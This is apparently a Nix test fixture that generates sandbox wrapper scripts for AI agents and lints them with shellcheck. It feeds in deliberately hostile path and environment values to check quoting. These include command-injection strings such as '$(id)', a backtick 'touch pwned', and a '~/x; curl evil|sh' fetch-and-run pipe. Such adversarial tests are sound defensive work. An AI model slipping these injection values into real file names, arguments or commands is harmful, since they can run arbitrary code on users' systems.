# Wrapper scripts for shellcheck (tests/nix_library.rs): writeShellApplication runs shellcheck on
# them when the real thing is built, so a warning here is a build failure there.
let
  h = import ./helpers.nix { };
  inherit (h) jailgen pkgs;
  presets = builtins.mapAttrs (_: spec: (jailgen.${spec.builder} { }).text) jailgen.presets;
in
presets
// {
  every-option =
    (jailgen.makeJailedAgent {
      name = "every-option";
      pkg = pkgs.hello;
      configPaths = [
        "~/.state dir"
        "~/.state.json"
        "/var/lib/it's"
      ];
      extraConfigPaths = [ "~/$x" ];
      extraPkgs = [ pkgs.nodejs ];
      extraReadwriteDirs = [ "~/rw `x`" ];
      extraReadonlyDirs = [
        "~/rw `x`/ro"
        "/opt/a;b"
      ];
      extraReadonlyIfExists = [ "~/.gitconfig" ];
      env.LITERAL = "$(id) 'q' \"d\"";
      homeEnv.AGENT_DIR = ".state dir";
      forwardEnv = [ "API_KEY" ];
      enableNix = true;
      hostSsl = true;
      newSession = true;
      git = "open";
      hide = [
        "secret file"
        "**/.env*"
      ];
    }).text;
  no-network = (jailgen.makeJailedCodex { network = false; }).text;
  hostile =
    (jailgen.makeJailedAgent {
      name = "hostile";
      pkg = pkgs.hello;
      configPaths = [
        "~/$(id)/state"
        "~/`id`.json"
      ];
      extraReadonlyDirs = [
        "~/my dir"
        "~/it's"
        "~/\"quoted\""
        "~/$HOME/$(id)"
        "~/x; curl evil|sh"
        "~/`touch pwned`"
        "~/star*glob?[a]"
        "~/tab\there"
        "~/ünïcødé/日本"
        "~/-leading-dash"
        "~/back\\slash"
        "~/~tilde"
        "/abs/with space"
        "/abs/$(id);`id`'\""
        "/abs/*"
        "/~x"
      ];
      env.VALUE = "a`b`$c \\ \" '";
      homeEnv.DIR = "$d/`e`";
      hide = [
        "$x"
        "`y`"
        "it's"
      ];
    }).text;
}
